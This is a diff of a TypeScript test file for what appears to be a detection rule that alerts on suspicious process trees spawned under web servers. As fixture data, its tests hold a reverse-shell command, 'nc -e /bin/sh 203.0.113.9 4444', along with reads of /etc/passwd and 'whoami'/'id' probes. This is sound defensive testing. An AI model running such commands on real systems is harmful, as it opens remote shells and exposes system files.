@@ -76,7 +76,7 @@ const createHost = (
   }: Partial<RuleParams> & { mostAlerts?: number; storesAfterRun?: boolean } = {}
 ) => {
   const memory = createMemoryAdapters([], mostAlerts, storesAfterRun);
-  const { reader } = createEqlEventReader(events);
+  const { reader, asked } = createEqlEventReader(events);
   const execute = createExecutor(
     { ...memory.adapters, createEventReader: () => reader },
     NO_EVIDENCE,
@@ -86,6 +86,7 @@ const createHost = (
   let state: RuleState = {};
   return {
     folded: memory.folded,
+    asked,
     /** What alerting keeps of the last run's alerts is lost. */
     forget: () => {
       state = { ...state, unconfirmed: [] };
@@ -200,14 +201,42 @@ it('takes what a script of a server’s child starts for part of its tree, thoug
 });
 
 it('raises the gravest first where alerting takes no more, and the rest in the next run', async () => {
-  const probe = toEvent({ id: 'probe', second: 5, args: ['sh', '-c', 'cat /etc/passwd'] });
-  const host = createHost([attack('a', 0), probe, attack('b', 3)], { mostAlerts: 2 });
+  const probe = toEvent({ id: 'probe', second: 0, args: ['sh', '-c', 'cat /etc/passwd'] });
+  const host = createHost([probe, attack('a', 2), attack('b', 3)], { mostAlerts: 2 });
   const first = await host.runAt(60);
   expect(first.raised.map((alert) => alert[ALERT_FIELD.ancestorId]).sort()).toEqual(['a', 'b']);
   expect(first.outcome).toContain('1 more alert is carried over');
   // Long after its look-back: only what is carried over still knows of it.
   const second = await host.runAt(3600);
   expect(second.raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['probe']);
+});
+
+it('raises the newest first of what is equally grave', async () => {
+  const host = createHost([attack('old', 0), attack('new', 9)], { mostAlerts: 1 });
+  const first = await host.runAt(60);
+  expect(first.raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['new']);
+});
+
+it('asks what stands above only where a name alone does not tell a server', async () => {
+  const asksAbove = async (parent: object): Promise<boolean> => {
+    const host = createHost([toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'id'], parent })]);
+    await host.runAt(60);
+    return host.asked.some(({ query }) => /and process\.entity_id in \(/.test(query));
+  };
+  const script = { ...FPM, executable: '/usr/bin/python3', name: 'python3' };
+  expect(await asksAbove(FPM)).toBe(false);
+  const args = ['python3', '/var/www/app/manage.py', 'runserver'];
+  expect(await asksAbove({ ...script, args })).toBe(true);
+});
+
+it('tells alerting of a rise that grew as of a rise', async () => {
+  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
+  const host = createHost(events, { minimumRisk: 1 });
+  await host.runAt(60);
+  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
+  await host.runAt(130);
+  events.push(grown('ls', 140, ['ls']));
+  expect((await host.runAt(200)).reports).toMatchObject([{ isRisen: true }]);
 });
 
 it('goes by the rule’s own least risk', async () => {
